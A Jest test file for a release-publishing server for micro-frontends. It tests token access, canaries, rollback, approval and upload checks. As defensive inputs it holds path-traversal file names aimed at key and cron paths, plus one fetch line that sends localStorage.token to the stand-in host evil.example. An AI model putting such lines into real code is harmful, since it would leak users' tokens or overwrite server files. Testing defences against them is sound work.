/** @jest-environment node */
import { existsSync, readdirSync, readFileSync, statSync } from 'node:fs'
import { join } from 'node:path'
import { sendBytes } from 'shared/server/testing'
import { switchRelease } from '../registry/switch-release.ts'
import { type Files, writeBuild } from '../registry/test/write-build.ts'
import { createPublisher, listPublishers, revokePublisher } from './publisher-tokens.ts'
import { NOW, openPublishingSite, type PublishingSite } from './test/open-publishing-site.ts'

const broken = () => undefined

const DEADLINE_MS = 30_000

let opened: PublishingSite
let folder: string
let dataDir: string
let port: number
let token: string
let call: PublishingSite['call']
let build: PublishingSite['build']
let formOf: PublishingSite['formOf']
let publish: PublishingSite['publish']
let order: PublishingSite['order']
let live: PublishingSite['live']

const open = async (options: Parameters<typeof openPublishingSite>[0] = {}): Promise<void> => {
  opened = await openPublishingSite(options)
  ;({ folder, dataDir, port, token, call, build, formOf, publish, order, live } = opened)
}
const reopen = async (options: Parameters<typeof openPublishingSite>[0]): Promise<void> => {
  await opened.close()
  await open(options)
}

beforeEach(() => open())
afterEach(() => opened.close())

const nothingIsKept = async () => {
  expect(await live()).toBeUndefined()
  const kept = join(dataDir, 'releases/mf_auth')
  expect(existsSync(kept) ? readdirSync(kept) : []).toEqual([])
}

test('a publisher publishes, starts and ends a canary, and rolls back, and the log names the publisher', async () => {
  expect(await publish('1')).toEqual({
    status: 200,
    body: { remote: 'mf_auth', after: { active: '1', fallback: null }, added: [] },
  })
  expect((await publish('2', {}, {}, { canary: 5 })).body.after).toEqual({
    active: '1',
    fallback: null,
    canary: { release: '2', percent: 5 },
  })
  expect((await order({ kind: 'end-canary' })).body.after).toEqual({ active: '1', fallback: null })
  expect((await publish('2')).body.after).toEqual({ active: '2', fallback: '1' })
  expect((await order({ kind: 'to', release: 'previous' })).body.after).toEqual({ active: '1', fallback: null })
  const [publisher] = await listPublishers({ dataDir })
  expect(publisher?.lastUsedAt).toBeDefined()
  expect(opened.log()).toContain(
    `"publication":{"publisher":"${publisher?.id}","owner":"Equipo de cuentas","remote":"mf_auth"`,
  )
  expect((await fetch(`http://127.0.0.1:${port}/r/mf_auth/2/app.js`)).status).toBe(200)
  expect((await call({})).body).toEqual({ remote: 'mf_auth', live: { active: '1', fallback: null } })
})

describe('access of publishers', () => {
  const refusedWith = async (bearer: string | undefined) => {
    const { status, body } = await call({ method: 'POST', body: await formOf(await build('1')) }, bearer)
    expect([status, body.code]).toEqual([401, 'UNAUTHENTICATED'])
    await nothingIsKept()
  }

  test('the site refuses publishing without a token, and with an invented or a revoked token', async () => {
    await refusedWith('')
    await refusedWith('trazo_00000000_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA')
    await refusedWith(`${token.slice(0, -1)}${token.endsWith('A') ? 'B' : 'A'}`)
    const [publisher] = await listPublishers({ dataDir })
    await revokePublisher({ dataDir }, publisher?.id ?? '', NOW)
    await refusedWith(token)
    expect((await call({})).status).toBe(401)
    expect((await order({ kind: 'to', release: 'previous' })).status).toBe(401)
  })

  test('a publisher cannot publish or roll back another team’s remote', async () => {
    const other = await createPublisher({ dataDir }, 'mf_documents', 'Equipo de documentos', NOW)
    const { status, body } = await call({ method: 'POST', body: await formOf(await build('1')) }, other)
    expect(status).toBe(422)
    expect(body.message).toBe('El token es de mf_documents y lo construido es de mf_auth. No se publicó nada.')
    await publish('1')
    expect((await order({ kind: 'to', release: '1' }, other)).status).toBe(404)
    expect((await live())?.active).toBe('1')
  })

  test('the site stores a token hashed in a private file, and never logs or returns the token', async () => {
    const file = join(dataDir, 'releases/publishers.json')
    expect(statSync(file).mode & 0o777).toBe(0o600)
    const answers = [await publish('1'), await publish('2', { 'x.html': '' }), await order({ kind: 'nothing' })]
    const secret = token.split('_').slice(2).join('_')
    for (const text of [readFileSync(file, 'utf8'), opened.log(), JSON.stringify(answers)])
      expect(text).not.toContain(secret)
    expect((await fetch(`http://127.0.0.1:${port}/r/publishers.json`)).status).toBe(404)
    expect((await fetch(`http://127.0.0.1:${port}/r/mf_auth/../publishers.json`)).status).toBe(404)
  })

  test('the site limits requests with invalid tokens and still accepts a valid token', async () => {
    for (let tries = 0; tries < 30; tries += 1) await call({}, 'wrong')
    expect((await call({}, 'wrong')).status).toBe(429)
    expect((await call({})).status).toBe(200)
  })
})

const ofEntries = async (...entries: readonly (readonly [name: string, content: string | Buffer])[]) => {
  const form = await formOf(await build('1'))
  for (const [name, content] of entries) form.append('file', new Blob([content]), name)
  return call({ method: 'POST', body: form })
}

describe('attacks with files', () => {
  test.each([
    '../../../../keys/root.key',
    '/etc/cron.d/x.js',
    'a/../../x.js',
    './x.js',
    'a//x.js',
    'a\\..\\x.js',
    `${'a'.repeat(201)}.js`,
    '',
  ])('the site refuses the unsafe file name %j and writes nothing', async (name) => {
    const { status } = await ofEntries([name, 'evil'])
    expect(status).toBe(422)
    await nothingIsKept()
    expect(readdirSync(dataDir)).toEqual(['releases'])
  })

  test.each<[string, readonly (readonly [string, string | Buffer])[], RegExp]>([
    ['a file twice', [['app.js', 'other']], /app\.js está dos veces/],
    ['a file below a file', [['app.js/x.js', 'other']], /está dos veces/],
    ['a page', [['x.html', '<script>']], /x\.html es de un tipo que una versión no puede llevar/],
    ['the record of the site', [['release.json', '{}']], /release\.json lo escribe el sitio/],
    ['a file that the build does not list', [['x.js', 'evil']], /x\.js no es lo que se construyó/],
    ['a large file', [['x.js', 'x'.repeat(4001)]], /x\.js pesa más/],
    ['large files', [1, 2, 3].map((n) => [`${n}.js`, 'x'.repeat(3500)] as const), /La versión pesa más/],
    ['many files', Array.from({ length: 12 }, (_, n) => [`${n}.js`, 'x'] as const), /demasiados archivos/],
  ])('the site refuses an upload with %s and keeps nothing', async (_what, entries, message) => {
    const { status, body } = await ofEntries(...entries)
    expect(status).toBe(422)
    expect(body.message).toMatch(message)
    expect(body.message).not.toContain(folder)
    await nothingIsKept()
  })

  test('the site refuses other contents under the name of a kept release', async () => {
    await publish('1')
    const { status, body } = await publish('1', { 'app.js': 'alert(1)' })
    expect([status, body.message]).toEqual([422, expect.stringMatching(/ya tiene una versión 1 con otros archivos/)])
    expect(readFileSync(join(dataDir, 'releases/mf_auth/1/app.js'), 'utf8')).toBe('script of 1')
  })
})

describe('broken uploads', () => {
  const head = (more: string) =>
    `POST /releases HTTP/1.1\r\nhost: x\r\nauthorization: Bearer ${token}\r\ncontent-type: multipart/form-data; boundary=b\r\n${more}\r\n`

  /** Sends the first half of an upload. */
  const sendHalf = async (request: AbortController) => {
    const form = new Response(await formOf(await build('1')))
    const type = form.headers.get('content-type') ?? ''
    const bytes = new Uint8Array(await form.arrayBuffer())
    const halfway = new ReadableStream({
      start(body) {
        body.enqueue(bytes.slice(0, Math.floor(bytes.length / 2)))
      },
    })
    return {
      answer: call({
        method: 'POST',
        body: halfway,
        headers: { 'content-type': type },
        signal: request.signal,
        duplex: 'half',
      } as RequestInit),
    }
  }

  test('an upload that stops halfway leaves no files', async () => {
    const request = new AbortController()
    const { answer } = await sendHalf(request)
    await untilSomethingArrives()
    request.abort()
    await expect(answer).rejects.toThrow()
    await untilNothingIsLeft()
    await nothingIsKept()
  })

  test('while four uploads arrive, a fifth one has to wait, and later ones are received again', async () => {
    const request = new AbortController()
    const answers: Promise<unknown>[] = []
    for (const count of [1, 2, 3, 4]) {
      const { answer } = await sendHalf(request)
      answers.push(answer.catch(() => 'aborted'))
      await until(() => left().length === count)
    }
    expect(await publish('1')).toMatchObject({ status: 503, body: { code: 'UNAVAILABLE' } })
    request.abort()
    expect(await Promise.all(answers)).toEqual(Array(4).fill('aborted'))
    await untilNothingIsLeft()
    expect((await publish('1')).status).toBe(200)
  })

  test('the site names an upload whose data are not those of a build', async () => {
    const form = new FormData()
    form.append('release', JSON.stringify({ record: { name: 'mf_auth' } }))
    expect((await call({ method: 'POST', body: form })).body.message).toMatch(/no tiene los datos de una versión/)
  })

  test('the site refuses an upload that exceeds the time limit', async () => {
    await reopen({ timeMs: 300 })
    const received = await sendBytes(port, `${head('content-length: 900\r\n')}--b\r\n`)
    expect(received).toMatch(/^HTTP\/1\.1 422 /)
    expect(received).toMatch(/El env.+o tard.+ m.+s de /)
    await nothingIsKept()
  })

  test.each([
    ['no field at first', '--b\r\ncontent-disposition: form-data; name="f"; filename="x.js"\r\n\r\nx\r\n--b--\r\n'],
    ['a field that is no JSON', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{\r\n--b--\r\n'],
    ['another field', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{"record":{}}\r\n--b--\r\n'],
    ['an end too early', '--b\r\ncontent-disposition: form-data; name="release"\r\n\r\n{'],
    ['no part', '--b--\r\n'],
  ])('the site refuses an upload with %s', async (_what, body) => {
    const received = await sendBytes(port, `${head(`content-length: ${body.length}\r\nconnection: close\r\n`)}${body}`)
    expect(received).toMatch(/^HTTP\/1\.1 422 [\s\S]*RELEASE_REFUSED/)
    await nothingIsKept()
  })

  const left = () =>
    existsSync(join(dataDir, 'releases/mf_auth')) ? readdirSync(join(dataDir, 'releases/mf_auth')) : []
  const until = async (isSo: () => boolean) => {
    for (const end = Date.now() + DEADLINE_MS; !isSo(); await new Promise(setImmediate))
      if (Date.now() > end) throw new Error(`still there: ${left()}`)
  }
  const untilSomethingArrives = () => until(() => left().length > 0)
  const untilNothingIsLeft = () => until(() => left().length === 0)
})

test('two concurrent publications are both kept, as live release and fallback', async () => {
  await publish('1')
  const both = await Promise.all([publish('2'), publish('3')])
  expect(both.map(({ status }) => status)).toEqual([200, 200])
  const entry = await live()
  expect([entry?.active, entry?.fallback].sort()).toEqual(['2', '3'])
})

test('publishing lists the browser storage and hosts that only the new code names', async () => {
  await publish('1', { 'app.js': 'fetch("/a")' })
  const { body } = await publish('2', { 'app.js': 'fetch("https://evil.example/"+localStorage.token)' })
  expect(body.added).toEqual(['guarda en el navegador: localStorage', 'habla con: https://evil.example'])
})

describe('approval of a release by a second person', () => {
  let second: string
  beforeEach(async () => {
    await reopen({ releaseApproval: true })
    second = await createPublisher({ dataDir }, 'mf_auth', 'Otra persona', NOW)
  })
  const approve = (bearer: string, release = '1') => order({ kind: 'approve', release }, bearer)

  test('a release waits until a second token of the remote approves it', async () => {
    expect(await publish('1')).toEqual({ status: 202, body: { remote: 'mf_auth', waiting: '1', added: [] } })
    expect(await live()).toBeUndefined()
    expect((await approve(token)).body.message).toMatch(/con este mismo token: la aprueba otra persona/)
    const foreign = await createPublisher({ dataDir }, 'mf_documents', 'Equipo de documentos', NOW)
    expect((await approve(foreign)).status).toBe(404)
    expect((await order({ kind: 'to', release: '1' })).body.message).toMatch(/espera que otra persona la apruebe/)
    expect((await order({ kind: 'to', release: '1' }, second)).status).toBe(422)
    expect(await live()).toBeUndefined()
    expect((await approve(second)).body).toMatchObject({ after: { active: '1' } })
    expect((await approve(second)).status).toBe(404)
  })

  test('a release cannot be approved after the token that published it is revoked', async () => {
    await publish('1')
    const [author] = await listPublishers({ dataDir })
    await revokePublisher({ dataDir }, author?.id ?? '', NOW)
    expect((await approve(second)).body.message).toMatch(/con un token que ya no vale.*: hay que publicarla de nuevo/)
    expect(await live()).toBeUndefined()
  })

  test('a canary starts when it is approved, and a roll-back needs no approval', async () => {
    await publish('1')
    await approve(second)
    await publish('2', {}, {}, { canary: 5 })
    expect((await approve(second, '2')).body.after).toMatchObject({ active: '1', canary: { release: '2', percent: 5 } })
    expect((await order({ kind: 'to', release: 'previous' })).body.after).toEqual({ active: '1', fallback: null })
  })
})

describe('checks against the running shell', () => {
  const refusal = async (files: Files, contract: object = {}) => {
    const { status, body } = await publish('2', files, contract)
    expect([status, body.code]).toEqual([422, 'RELEASE_REFUSED'])
    await nothingIsKept()
    return body.message
  }

  test('the site refuses a release that uses an export the live shell lacks', async () => {
    const contract = { needs: { 'shared/ui': '^5.0.0' }, imports: { 'shared/ui': ['Button', 'Ring'] } }
    expect(await refusal({}, contract)).toBe(
      'mf_auth 2 usa Ring de shared/ui, que el shell s1 no ofrece: primero hay que publicar un shell con eso, o dejar de usarlo en mf-auth.\nNo se publicó nada.',
    )
  })

  test('the site refuses styles for elements that the remote does not own', async () => {
    expect(await refusal({ 'lazy.css': 'button{color:red} .shell-bar{display:none} :root{--color-ink:red}' })).toBe(
      'mf_auth 2: lazy.css cambia elementos que no son suyos (button, .shell-bar, --color-ink). Usa clases propias, en un archivo .module.css.\nNo se publicó nada.',
    )
  })

  test.each<[string, Files, object, RegExp]>([
    ['a newer shared', {}, { needs: { 'shared/ui': '^6.0.0' } }, /necesita shared \^6\.0\.0 y el shell trae 5\.9\.0/],
    ['another contract', {}, { contract: 2 }, /primero hay que publicar un shell que hable el 2/],
    ['a missing page', {}, { routes: [] }, /no tiene página para \/login/],
    ['no record of exports', {}, { imports: undefined }, /no dice qué exports usa/],
    ['a contract of another release', {}, { release: '1' }, /contract\.json es de mf_auth 1/],
    ['a broken contract', { 'contract.json': '{' }, {}, /contract\.json no se puede leer/],
    ['a broken manifest', { 'mf-manifest.json': '{' }, {}, /El manifiesto de mf_auth 2 no se puede leer/],
    ['broken styles', { 'app.css': '}' }, {}, /app\.css no se puede leer/],
    ['no record of licences', { 'licences.json': '' }, {}, /licences\.json no se puede leer/],
    [
      'a licence that is not allowed',
      { 'licences.json': JSON.stringify([{ name: 'x', version: '1.0.0', licence: 'AGPL-3.0-only', text: '' }]) },
      {},
      /mf_auth 2: x 1\.0\.0 tiene la licencia AGPL-3\.0-only, que no está permitida/,
    ],
    [
      'a route over its budget',
      {
        'prerender.json': JSON.stringify({ container: ['app.js'], routes: { '/login': ['a.js', 'b.js', 'c.js'] } }),
      },
      {},
      /mf_auth 2 pesa demasiado en \/login: 0 kB en 4 archivos; el límite es de 10,5 kB en 3 archivos/,
    ],
    ['a broken record of first files', { 'prerender.json': '{}' }, {}, /prerender\.json no se puede leer/],
  ])('the site refuses a release with %s', async (_what, files, contract, message) => {
    expect(await refusal(files, contract)).toMatch(message)
  })

  test('the site refuses a build without recorded checks of types and tests', async () => {
    const root = await build('2')
    for (const checks of [undefined, {}, { release: '1', types: true, tests: true, at: NOW.toISOString() }]) {
      const { body } = await call({ method: 'POST', body: await formOf(root, { checks }) })
      expect(body.message).toMatch(/no dejó constancia .*: ejecuta pnpm release mf-auth --check /)
    }
    await nothingIsKept()
  })

  test('the site refuses styles for a class of another live remote', async () => {
    const other = await createPublisher({ dataDir }, 'mf_documents', 'Equipo de documentos', NOW)
    const form = await formOf(await build('1', { 'app.css': '.card { color: red }' }, {}, 'mf_documents'))
    expect((await call({ method: 'POST', body: form }, other)).status).toBe(200)
    expect((await publish('2', { 'app.css': '.card { color: blue }' })).body.message).toMatch(/no son suyos \(\.card\)/)
  })
})

test('a publisher can roll back to a formerly live release without licences.json', async () => {
  const contract = { name: 'mf_auth', release: '0', contract: 1, routes: ['/login'], slots: [], needs: {}, imports: {} }
  const root = await writeBuild(join(folder, 'old'), 'mf_auth', '0', contract)
  await switchRelease({ dataDir, name: 'mf_auth', broken }, { kind: 'build', root }, NOW)
  await publish('1')
  expect(await order({ kind: 'to', release: 'previous' })).toMatchObject({
    status: 200,
    body: { after: { active: '0' } },
  })
  expect((await order({ kind: 'to', release: '1' })).body.after).toMatchObject({ active: '1', fallback: '0' })
})
